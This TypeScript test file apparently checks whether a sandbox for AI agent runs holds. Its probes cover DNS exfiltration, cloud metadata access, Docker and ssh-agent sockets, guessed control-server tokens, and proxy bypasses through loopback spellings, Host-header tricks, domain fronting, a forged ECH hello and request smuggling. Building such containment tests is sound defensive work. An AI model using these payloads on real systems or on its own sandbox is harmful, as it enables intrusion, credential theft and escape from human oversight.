import { node, sh, type Traces, type Uncategorized } from '../attempt.ts';

/** The network without the proxy. `$ADDRESS` is a non-loopback address of this machine, where it has one. */
export const NETWORK: readonly Uncategorized[] = [
  node('tcp-direct', 'open a TCP connection without the proxy')`
    if (process.env.ADDRESS) console.log(await say({ host: process.env.ADDRESS, port: process.env.TCP }, mark));`,
  node('udp-direct', 'send UDP packets')`
    const socket = require('node:dgram').createSocket('udp4');
    for (const address of ['127.0.0.1', process.env.ADDRESS].filter(Boolean)) {
      await new Promise((done) => socket.send(mark, Number(process.env.UDP), address, (error) => {
        console.log(address, error ? error.code : 'sent');
        done();
      }));
    }
    socket.close();`,
  node('dns', 'ask name servers, and carry data out in the question')`
    const { Resolver } = require('node:dns').promises;
    for (const address of ['127.0.0.1', process.env.ADDRESS].filter(Boolean)) {
      const resolver = new Resolver({ timeout: 300, tries: 1 });
      resolver.setServers([address + ':' + process.env.UDP]);
      await resolver.resolve4(process.env.ID + '.battery.test').catch((error) => console.log(error.code));
    }
    const servers = require('node:dns').getServers();
    for (const server of servers.slice(0, 2)) {
      const resolver = new Resolver({ timeout: 500, tries: 1 });
      resolver.setServers([server]);
      const found = await resolver.resolveNs('.').catch((error) => (console.log(server, error.code), null));
      if (found) escaped('the name server ' + server + ' answers');
    }`,
  sh('icmp', 'send ICMP packets')`
    [ -n "$ADDRESS" ] || lacks 'address of this machine'
    if command -v ping; then ping -c 1 -w 1 "$ADDRESS" && escaped "ping reaches $ADDRESS"; exit; fi
    needs perl
    perl -MSocket -e '
      my $socket;
      socket($socket, AF_INET, SOCK_DGRAM, 1) or socket($socket, AF_INET, SOCK_RAW, 1) or die "$!\n";
      # A question of eight bytes, its sum made right by hand for where the kernel does not make it.
      send($socket, pack("C2n3", 8, 0, 0xf7fe, 0, 1), 0, sockaddr_in(0, inet_aton($ENV{ADDRESS}))) or die "$!\n";
      vec(my $ready = "", fileno($socket), 1) = 1;
      print select($ready, undef, undef, 1) > 0 ? "ESCAPED $ENV{ADDRESS} answers\n" : "no answer\n";'`,
  sh('interfaces', 'find a network interface or a route that leads out')`
    sed 1,2d /proc/net/dev | while IFS=: read -r name traffic; do
      name=$(echo $name)
      # Made in every network namespace by some kernels, and leads nowhere.
      case $name in lo|tunl*|sit*|gre*|erspan*|ip6*|ip_vti*) continue ;; esac
      escaped "there is the interface $name"
    done
    sed 1d /proc/net/route | grep . && escaped 'there is a route'`,
  node('loopback-ports', "reach ports of the host's loopback that are not shared")`
    for (const host of ['127.0.0.1', '::1', 'localhost', '0.0.0.0', '127.1.2.3', '::ffff:127.0.0.1']) {
      for (const port of [process.env.LOCAL, process.env.TCP]) console.log(host, await say({ host, port }, mark));
    }`,
  sh('raw-sockets', 'open raw and packet sockets')`
    needs perl
    perl -MSocket -e '
      print "ESCAPED a packet socket sees other interfaces\n"
        if socket(my $packet, 17, SOCK_RAW, 768) && grep { !/^\s*lo:|tunl|sit|gre|ip6|ip_vti/ && /:/ } qx(cat /proc/net/dev);
      print socket(my $raw, AF_INET, SOCK_RAW, 1) ? "ESCAPED a raw socket opens\n" : "$!\n";'`,
  node('metadata', "reach the cloud's metadata service, directly and through the proxy")`
    for (const host of ['169.254.169.254', 'fd00:ec2::254', '100.100.100.200', '169.254.170.2']) {
      const answer = await say({ host, port: 80 }, 'GET /latest/meta-data/ HTTP/1.0\r\n\r\n');
      if (answer === CONNECTED || answer.startsWith('HTTP/')) escaped(host + ' answers');
    }
    for (const name of ['169.254.169.254', '[fd00:ec2::254]', '2852039166', 'metadata.google.internal']) {
      await refused('GET http://' + name + '/latest/meta-data/ HTTP/1.1\r\nHost: ' + name);
    }`,
];

/** Connects to those of these sockets that exist; one that answers or accepts text is a way out. */
const knock = (...paths: readonly string[]) => `
  const paths = ${JSON.stringify(paths)}
    .map((path) => path.replace(/^\\$(\\w+)/, (_, name) => process.env[name] || '/nowhere'))
    .map((path) => path.replace('*', String(process.getuid())));
  for (const path of paths) {
    const answer = await say({ path }, mark);
    if (answer === CONNECTED || !/^E[A-Z]+$/.test(answer)) escaped('a socket takes connections: ' + path);
    else console.log(path, answer);
  }`;

/** Sockets through which host programs act for any caller. */
export const SOCKETS: readonly Uncategorized[] = [
  node('socket-file', 'connect to a Unix socket outside the work tree')`${knock('$DOOR', '/proc/1/root$DOOR')}`,
  node('socket-abstract', 'connect to an abstract Unix socket, which no file guards')`
    if (process.env.ABSTRACT) console.log(await say({ path: '\0' + process.env.ABSTRACT }, mark));`,
  node('socket-engine', 'reach a container engine')`${knock(
    ...['/var/run/docker.sock', '/run/docker.sock', '/run/podman/podman.sock', '/run/containerd/containerd.sock'],
    ...['/run/user/*/docker.sock', '/run/user/*/podman/podman.sock', '$REAL_HOME/.docker/run/docker.sock'],
  )}`,
  node('socket-keys', "use the user's ssh or gpg agent")`${knock(
    ...['$SSH_AUTH_SOCK', '$AGENT_OF_PERSON', '/run/user/*/gnupg/S.gpg-agent', '/run/user/*/keyring/ssh'],
    ...['/run/user/*/ssh-agent.socket', '$REAL_HOME/.gnupg/S.gpg-agent'],
  )}`,
  node('socket-desktop', "reach the user's desktop: session bus, display, sound")`${knock(
    ...['/run/user/*/bus', '/run/user/*/wayland-0', '/run/user/*/pipewire-0', '/run/user/*/pulse/native'],
    ...['/tmp/.X11-unix/X0', '/tmp/.X11-unix/X1', '\0/tmp/.X11-unix/X0', '\0/tmp/.ICE-unix/1'],
  )}`,
  node('socket-system', 'reach services of the system: bus, service manager, log')`${knock(
    ...['/run/dbus/system_bus_socket', '/run/systemd/private', '/run/systemd/journal/stdout', '/run/udev/control'],
    ...['/run/snapd.socket', '/run/lvm/lvmpolld.socket', '/run/user/*/systemd/private', '/var/run/nscd/socket'],
  )}`,
  node('socket-in-tree', 'connect to a service of the host that listens in the work tree')`
    if (!process.env.SERVICE) console.log('LACKS a path that is short enough for a socket');
    else console.log(await say({ path: process.env.SERVICE }, mark));`,
];

/** A call to the control server; one that is accepted, or that breaks the server, got further than it may. */
const call = (what: string, method: string, path: string, headers: string) => `
  if (await status('${method}', '${path}', ${headers}) < 400) escaped(${JSON.stringify(what)});`;

/** What the token of one agent opens, and what it must not open: `$CONTROL_URL`, `$CONTROL_TOKEN`. */
export const CONTROL: readonly Uncategorized[] = [
  node('control-guess', 'enter with no token, an empty, a guessed or an altered one')`
    const token = process.env.CONTROL_TOKEN || 'x';
    const altered = token.slice(0, -1) + (token.endsWith('A') ? 'B' : 'A');
    for (const guess of [undefined, '', ' ', 'null', token.slice(0, -1), token + ' ' + token, altered]) {
      for (const [method, path] of [['POST', '/hooks'], ['POST', '/mcp']]) {
        const headers = guess === undefined ? {} : bearer(guess);
        if (await status(method, path, headers) < 400) escaped(method + ' ' + path + ' lets ' + guess + ' in');
      }
    }`,
  sh('control-keys', "read the keys that sign a person's messages to runs")`
    for file in "$STATE"/control/*; do [ -s "$file" ] && escaped "$file can be read"; done
    cat /proc/[0-9]*/root"$STATE"/control/* | grep -q . && escaped 'a key can be read'`,
  node('control-pages', 'enter as a page of another origin, or by another name of the loopback')`
    const token = bearer(process.env.CONTROL_TOKEN);
    ${call('another Host is let in', 'POST', '/hooks', "{ ...token, host: 'evil.test' }")}
    ${call('another Origin is let in', 'POST', '/hooks', "{ ...token, origin: 'http://evil.test' }")}`,
  node('control-routes', 'find undocumented routes of the server')`
    const token = bearer(process.env.CONTROL_TOKEN);
    for (const path of ['/', '/token', '/admin', '/debug', '/steer', '/stop', '/events', '/hooks/..', '//hooks', '/Hooks',
        '/?token=' + process.env.CONTROL_TOKEN, '/%68ooks', '/mcp/../events']) {
      if (await status('GET', path, token) < 400) escaped('GET ' + path);
      if (await status('POST', path, token) < 400) escaped('POST ' + path);
    }`,
];

/** What the stand-in for an allowed host must not have received. */
const neverSent =
  (unwanted: (traces: Traces) => string, what: string) =>
  async (traces: Traces): Promise<string | null> =>
    traces.allowed.some(({ text }) => text.toLowerCase().includes(unwanted(traces).toLowerCase())) ? what : null;

/**
 * Ways around the allow-list of the egress proxy. `$ALLOWED` is the one localhost port that the policy names as a host;
 * the listeners at `$LOCAL` (loopback) and `$TCP` (all addresses) must never receive anything.
 */
export const PROXY: readonly Uncategorized[] = [
  node('proxy-unlisted', 'ask the proxy for a host that is not allowed, in every form')`
    for (const target of ['http://unlisted.test/', 'http://unlisted.test:443/', 'https://unlisted.test/',
        'http://localhost.unlisted.test/', 'http://xlocalhost/', 'ftp://unlisted.test/', 'http://UNLISTED.test./']) {
      await refused('GET ' + target + ' HTTP/1.1\r\nHost: localhost');
    }
    await refused('CONNECT unlisted.test:443 HTTP/1.1\r\nHost: localhost:' + process.env.ALLOWED);`,
  node('proxy-by-ip', 'ask for an address instead of a name')`
    const { ADDRESS: address = '', TCP: port } = process.env;
    const number = address.split('.').reduce((sum, part) => sum * 256 + Number(part), 0);
    for (const host of [address, String(number), '0x' + number.toString(16), '[::ffff:' + address + ']']) {
      console.log(await ask('GET http://' + host + ':' + port + '/' + mark + ' HTTP/1.1\r\nHost: ' + host));
      console.log(await ask('CONNECT ' + host + ':' + port + ' HTTP/1.1\r\nHost: ' + host, mark));
    }`,
  node('proxy-loopback', "ask for the host's own loopback, in every spelling")`
    const { LOCAL: port } = process.env;
    for (const host of ['127.0.0.1', 'localhost', 'LOCALHOST', 'localhost.', '[::1]', '0.0.0.0', '0', '127.1',
        '2130706433', '0x7f000001', '0177.0.0.1', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[::]', '127.0.0.1.']) {
      console.log(await ask('GET http://' + host + ':' + port + '/' + mark + ' HTTP/1.1\r\nHost: ' + host));
    }`,
  node('proxy-host-header', 'name an allowed host in one place and another one in the Host header', {
    check: neverSent(({ id }) => `${id}.unlisted.test`, 'the allowed host was sent the name of another one'),
  })`
    const { LOCAL, ALLOWED, ID } = process.env;
    const allowed = 'localhost:' + ALLOWED;
    await ask('GET http://127.0.0.1:' + LOCAL + '/' + mark + ' HTTP/1.1\r\nHost: ' + allowed);
    await ask('GET /' + mark + ' HTTP/1.1\r\nHost: localhost:' + LOCAL);
    await ask('GET //localhost:' + LOCAL + '/' + mark + ' HTTP/1.1\r\nHost: ' + allowed);
    await ask('GET http://' + allowed + '/ HTTP/1.1\r\nHost: ' + ID + '.unlisted.test');
    await ask('GET http://' + allowed + '/ HTTP/1.1\r\nHost: ' + allowed + '\r\nHost: ' + ID + '.unlisted.test');`,
  node('proxy-userinfo', 'hide the real host behind a user name, a fragment or odd characters')`
    const { LOCAL, ALLOWED } = process.env;
    const allowed = 'localhost:' + ALLOWED;
    for (const target of ['http://' + allowed + '@127.0.0.1:' + LOCAL + '/', 'http://127.0.0.1:' + LOCAL + '#@' + allowed,
        'http://' + allowed + '\\@127.0.0.1:' + LOCAL, 'http://127.0.0.1:' + LOCAL + '\t.' + allowed,
        'http://127.0.0.1:' + LOCAL + '%00.' + allowed, 'http:127.0.0.1:' + LOCAL + '/']) {
      console.log(await ask('GET ' + target + mark + ' HTTP/1.1\r\nHost: ' + allowed));
    }`,
  node('proxy-connect-port', 'CONNECT to an allowed host on a port that is not allowed')`
    const { LOCAL } = process.env;
    for (const host of ['localhost', '127.0.0.1', '[::1]', '0']) {
      console.log(await ask('CONNECT ' + host + ':' + LOCAL + ' HTTP/1.1\r\nHost: ' + host + ':' + LOCAL, mark));
    }
    await refused('CONNECT localhost:22 HTTP/1.1\r\nHost: localhost');`,
  node('proxy-sni', 'name another host inside the TLS of an allowed tunnel (domain fronting)', {
    check: neverSent(({ id }) => `${id}.unlisted.test`, 'a TLS hello for another host went through the tunnel'),
  })`
    const { ALLOWED, ID } = process.env;
    const socket = proxySocket();
    socket.on('error', (error) => console.log(error.code));
    socket.write('CONNECT localhost:' + ALLOWED + ' HTTP/1.1\r\nHost: localhost:' + ALLOWED + '\r\n\r\n');
    const [first] = await Promise.race([require('node:events').once(socket, 'data'), pause(1500).then(() => [''])]);
    console.log(String(first).split('\r\n')[0]);
    const tls = require('node:tls').connect({ socket, servername: ID + '.unlisted.test', rejectUnauthorized: false });
    tls.on('error', (error) => console.log(error.code));
    await Promise.race([require('node:events').once(tls, 'close'), pause(700)]);
    socket.destroy();`,
  node('proxy-hidden-name', 'hide the name of another host in an encrypted TLS hello (ECH)', {
    check: neverSent(({ id }) => `${id}.hidden.test`, 'an encrypted TLS hello went through the tunnel'),
  })`
    const { ALLOWED, ID } = process.env;
    const events = require('node:events');
    // A hello of our own TLS, with one extension more behind all others.
    const hello = await new Promise((resolve) => {
      const write = (chunk, _, done) => { resolve(chunk); done(); };
      const socket = new (require('node:stream').Duplex)({ read() {}, write });
      require('node:tls').connect({ socket, servername: 'localhost' }).on('error', () => {});
    });
    const shake = hello.subarray(5);
    const hidden = Buffer.concat([Buffer.from([0xfe, 0x0d, 0, 80]), Buffer.from((ID + '.hidden.test').padEnd(80, '.'))]);
    const suites = 39 + shake[38];
    const methods = suites + 2 + shake.readUInt16BE(suites);
    const lengthAt = methods + 1 + shake[methods];
    const longer = Buffer.concat([shake, hidden]);
    longer.writeUIntBE(longer.length - 4, 1, 3);
    longer.writeUInt16BE(shake.readUInt16BE(lengthAt) + hidden.length, lengthAt);
    const record = Buffer.concat([Buffer.from([22, 3, 1, longer.length >> 8, longer.length & 255]), longer]);
    const head = 'CONNECT localhost:' + ALLOWED + ' HTTP/1.1\r\nHost: localhost:' + ALLOWED + '\r\n\r\n';
    const socket = proxySocket();
    socket.on('error', (error) => console.log(error.code));
    socket.write(head);
    const [first] = await Promise.race([events.once(socket, 'data'), pause(1500).then(() => [''])]);
    console.log(String(first).split('\r\n')[0]);
    socket.write(record);
    await pause(700);
    socket.destroy();`,
  node('proxy-private-address', 'ask for an allowed name that leads to this machine itself')`
    const { OWN_NAME } = process.env;
    console.log(await ask('GET http://' + OWN_NAME + '/' + mark + ' HTTP/1.1\r\nHost: ' + OWN_NAME));
    console.log(await ask('CONNECT ' + OWN_NAME + ' HTTP/1.1\r\nHost: ' + OWN_NAME, mark));`,
  node('proxy-pipelined', 'send a second request for another host down a connection that was allowed')`
    const { LOCAL, ALLOWED } = process.env;
    const allowed = 'localhost:' + ALLOWED;
    const good = 'GET http://' + allowed + '/ HTTP/1.1\r\nHost: ' + allowed + '\r\n\r\n';
    const bad = 'GET http://127.0.0.1:' + LOCAL + '/' + mark + ' HTTP/1.1\r\nHost: ' + allowed;
    console.log(await ask(good + bad), await ask(good + good + 'CONNECT 127.0.0.1:' + LOCAL + ' HTTP/1.1', mark));`,
  node('proxy-smuggled', 'smuggle a request past the proxy with headers that contradict one another', {
    check: neverSent(({ id }) => `x-smuggled: ${id}`, 'the allowed host was sent a second, hidden request'),
  })`
    const { LOCAL, ALLOWED, ID } = process.env;
    const allowed = 'localhost:' + ALLOWED;
    const hidden = 'GET http://127.0.0.1:' + LOCAL + '/' + mark + ' HTTP/1.1\r\nX-Smuggled: ' + ID + '\r\n\r\n';
    const head = 'POST http://' + allowed + '/ HTTP/1.1\r\nHost: ' + allowed + '\r\n';
    const bodies = ['Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n' + hidden,
      'Content-Length: 0\r\nContent-Length: ' + hidden.length + '\r\n\r\n' + hidden,
      'Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n' + hidden,
      'Transfer-Encoding : chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n' + hidden];
    for (const body of bodies) console.log(await tell(head + body));`,
  sh('proxy-sockets', 'replace the sockets that lead to the proxy, or add to them')`
    for folder in $(tr '\0' '\n' < /proc/1/cmdline | grep -A1 -x -e --sockets) \
        $(cat /proc/[0-9]*/cmdline | tr '\0' '\n' | grep -A1 -x -e --sockets) "$GATEWAY"; do
      [ -d "$folder" ] || continue
      echo "sockets in $folder"
      touch "$folder/new.sock" && escaped "$folder can be written"
    done`,
];
